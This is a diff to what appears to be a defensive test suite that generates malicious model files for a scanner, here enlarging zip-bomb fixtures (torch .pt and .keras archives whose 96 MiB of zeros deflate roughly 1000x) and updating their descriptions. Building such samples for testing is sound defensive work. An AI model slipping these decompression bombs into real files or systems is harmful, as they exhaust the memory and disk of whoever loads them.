@@ -142,7 +142,7 @@ def zip_symlink_member() -> list[Advisory]:
 def zip_bomb_torch() -> list[Advisory]:
     # David Fifield "A better zip bomb" (2019-07) applied to model zips: a small deflated member that
     # inflates to a huge data.pkl (resource exhaustion at load).
-    big = b"\x00" * (64 << 20)
+    big = b"\x00" * (96 << 20)
     co = zlib.compressobj(9, zlib.DEFLATED, -15)
     comp = co.compress(big) + co.flush()
     ents = [ZEntry("archive/data/0", big, method=8, payload_override=comp)]
@@ -153,7 +153,7 @@ def zip_bomb_torch() -> list[Advisory]:
         "2019-07",
         data,
         None,
-        "A torch zip whose storage member inflates 1000x.",
+        "A torch zip whose 96 MiB storage member inflates 1000x.",
         component="fs",
         filename="bomb.pt",
     )
@@ -220,7 +220,7 @@ def keras_npz_shape_bomb() -> list[Advisory]:
 @advisory
 def keras_zip_decompression_bomb() -> list[Advisory]:
     # huntr 952d310a / keras PR #23010 (2026-06): a .keras archive whose weights member inflates ~1000x.
-    big = b"\x00" * (48 << 20)
+    big = b"\x00" * (96 << 20)
     co = zlib.compressobj(9, zlib.DEFLATED, -15)
     comp = co.compress(big) + co.flush()
     layer = {"module": "keras.layers", "class_name": "Dense", "registered_name": None, "config": {"name": "d"}}
@@ -238,7 +238,7 @@ def keras_zip_decompression_bomb() -> list[Advisory]:
         "2026-06",
         data,
         None,
-        "48 MiB of zeros deflated to ~48 KiB inside a .keras archive.",
+        "96 MiB of zeros deflated to ~96 KiB inside a .keras archive.",
         component="fs",
         filename="model.keras",
     )
